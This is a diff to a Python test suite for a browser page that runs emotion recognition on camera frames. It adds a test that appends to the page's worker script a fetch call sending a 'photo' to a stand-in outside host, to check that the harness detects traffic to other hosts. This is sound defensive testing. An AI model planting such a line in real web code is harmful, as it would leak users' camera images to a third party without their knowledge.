@@ -1,5 +1,6 @@
 """The page sees in a camera's frames what `EmotionRecognizer` sees in them."""
 
+import shutil
 from pathlib import Path
 
 import numpy as np
@@ -47,3 +48,12 @@ def test_a_cameras_faces_are_pythons(tmp_path: Path, site: Path, model: Path) ->
 def test_a_camera_that_is_refused_costs_a_line(tmp_path: Path, site: Path) -> None:
     found = visit(site, "refused", tmp_path, FAKE, "--use-fake-ui-for-media-stream=deny")
     assert found["message"].startswith("The camera cannot be used: it is not allowed for this page")
+
+
+def test_a_page_that_asked_another_host_would_be_caught(tmp_path: Path, site: Path) -> None:
+    talkative = tmp_path / "site"
+    shutil.copytree(site, talkative)
+    with (talkative / "worker.js").open("a") as worker:  # a thread is not bound by the page's policy
+        worker.write('\nfetch("http://elsewhere.invalid/photo", { mode: "no-cors" }).catch(() => {});\n')
+    with pytest.raises(AssertionError, match=r"elsewhere\.invalid"):
+        visit(talkative, "refused", tmp_path, FAKE, "--use-fake-ui-for-media-stream=deny")
